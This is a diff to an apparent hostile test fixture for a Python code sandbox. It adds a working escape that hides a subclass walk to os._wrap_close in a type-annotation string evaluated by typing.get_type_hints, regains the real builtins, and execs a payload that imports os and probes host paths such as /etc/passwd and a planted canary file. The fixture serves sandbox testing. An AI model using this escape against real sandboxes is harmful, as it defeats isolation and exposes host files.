@@ -2,21 +2,18 @@
 host paths (the canary the test planted, the project, /etc/passwd), under
 names a careless host might read or clean up (report.json, stdout, result).
 The host must never follow them: the canary file must come out unchanged."""
+import typing
+
+
+def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
+    """The import allow-list is a policy, not the boundary: typing evaluates this
+    annotation string, which the source check never parses, and it reaches the
+    real builtins through os._wrap_close. The payload below then runs with them."""
+
+
+_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
+PAYLOAD = r'''
 import numpy as np
-
-
-def _load(name):
-    try:
-        return __import__(name)
-    except BaseException:
-        pass
-    for cls in ().__class__.__base__.__subclasses__():
-        if cls.__name__ == "_wrap_close":
-            sys = cls.__init__.__globals__["sys"]
-            if name in sys.modules:
-                return sys.modules[name]
-            return sys.modules["_frozen_importlib"]._gcd_import(name)
-    raise ImportError(name)
 
 
 CANARY = "/tmp/hotpath-hostile-canary/secret.txt"
@@ -41,7 +38,7 @@ def _plant(os, directory):
 
 
 def _probe():
-    os = _load("os")
+    import os
     planted = _plant(os, "/tmp") + _plant(os, os.getcwd())
     found = []
     try:
@@ -59,3 +56,9 @@ def transform(x):
     if _FINDINGS:
         raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
     return np.sqrt(x * x + 1.0) * 2.0 - x
+'''
+_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
+_BUILTINS["exec"](PAYLOAD, _namespace)
+transform = _namespace["transform"]
+_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
+_written = _namespace.get("_written")
